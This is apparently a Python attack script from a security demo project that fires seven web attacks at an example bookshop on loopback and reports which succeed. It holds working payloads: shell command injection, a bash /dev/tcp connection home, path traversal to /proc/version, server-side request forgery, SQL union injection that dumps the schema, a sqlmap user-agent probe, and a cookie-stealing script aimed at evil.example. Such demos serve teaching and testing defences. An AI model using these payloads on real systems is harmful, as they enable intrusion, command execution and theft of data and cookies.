"""Attacks on a bookshop: `python -m examples.attacker http://127.0.0.1:8000`. Only for the example shops on loopback.

Every attack is real and takes something away: a file, the database's schema, an answer from a listener that this script
itself opens on loopback. The exit code is 0 when all of them worked. Standard library only.
"""

from __future__ import annotations

import argparse
import re
import socket
import sys
import threading
from collections.abc import Callable
from html import unescape

from examples.browser import Browser

UP = "../" * 12
"""Out of the chapters' folder, however deep it lies."""

PROC_VERSION = re.compile(r"Linux version \S+")
SECRET = "the vault is open"
WAIT_SECONDS = 15


class Listener(threading.Thread):
    """A loopback port that answers whoever comes as a web server would, and keeps what it was told."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(WAIT_SECONDS)
        self.port = self.socket.getsockname()[1]
        self.heard = ""
        self.start()

    def run(self) -> None:
        with self.socket, self.socket.accept()[0] as caller:
            caller.settimeout(WAIT_SECONDS)
            self.heard = caller.recv(4096).decode(errors="replace")
            body = SECRET.encode()
            caller.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))

    def told(self) -> str:
        """What the caller said; empty where nobody called in time."""
        self.join(WAIT_SECONDS)
        return self.heard.strip()


def command_injection(shop: Browser) -> str:
    """A second command behind the host's name."""
    found = PROC_VERSION.search(shop.get("/maintenance/ping", host="x;cat /proc/version").text)
    return found.group() if found else ""


def call_home(shop: Browser) -> str:
    """A shell that opens a connection to the attacker; dash has no /dev/tcp, bash has."""
    listener = Listener()
    shop.get("/maintenance/ping", host=f"x;bash -c 'id > /dev/tcp/127.0.0.1/{listener.port}'")
    return listener.told()


def path_traversal(shop: Browser) -> str:
    """A file that is no chapter."""
    found = PROC_VERSION.search(shop.get("/download", name=UP + "proc/version").text)
    return found.group() if found else ""


def server_side_request(shop: Browser) -> str:
    """An inner service, asked by the shop. It answers over the shop's cover page."""
    listener = Listener()
    page = shop.get("/cover", url=f"http://127.0.0.1:{listener.port}/vault")
    return page.text if SECRET in page.text and listener.told() else ""


def sql_injection(shop: Browser) -> str:
    """The schema, as if it were books."""
    page = shop.get("/search", q="x' union select 1,name,sql,4,5,6,7 from sqlite_master--")
    found = re.search(r"CREATE TABLE books[^<]*\)", unescape(page.text), re.IGNORECASE)
    return found.group() if found else ""


def scanner(shop: Browser) -> str:
    """A well-known scanner that does not hide its name."""
    known = Browser(shop.base, "sqlmap/1.9.4#stable (https://sqlmap.org)").get("/search", q="dune")
    return "was let in" if known.status == 200 else ""


def script_injection(shop: Browser) -> str:
    """A script in a page. The shop's templates escape it: an attempt, and no more."""
    page = shop.get("/search", q='<script>document.location="//evil.example/"+document.cookie</script>')
    return "sent; the page escaped it" if page.status == 200 and "<script>document" not in page.text else ""


ATTACKS: tuple[tuple[str, Callable[[Browser], str]], ...] = (
    ("security scanner", scanner), ("cross-site scripting", script_injection), ("SQL injection", sql_injection),
    ("path traversal", path_traversal), ("server-side request", server_side_request),
    ("command injection", command_injection), ("a shell that calls home", call_home),
)  # fmt: skip


def attempt(attack: Callable[[Browser], str], shop: Browser) -> str:
    """What it got out; empty where nothing, also because nobody answered."""
    try:
        return attack(shop)
    except OSError as error:
        print(f"  nobody answers: {error}", file=sys.stderr)
        return ""


def main() -> int:
    parser = argparse.ArgumentParser(description="Attacks on an example bookshop.")
    parser.add_argument("base", help="the shop's address, such as http://127.0.0.1:8000")
    shop = Browser(parser.parse_args().base, "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    failed = 0
    for name, attack in ATTACKS:
        got = attempt(attack, shop)
        failed += not got
        print(f"{name + ':':<26}{' '.join(got.split())[:120] or 'nothing'}", flush=True)
    print(f"{len(ATTACKS) - failed} of {len(ATTACKS)} attacks worked")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
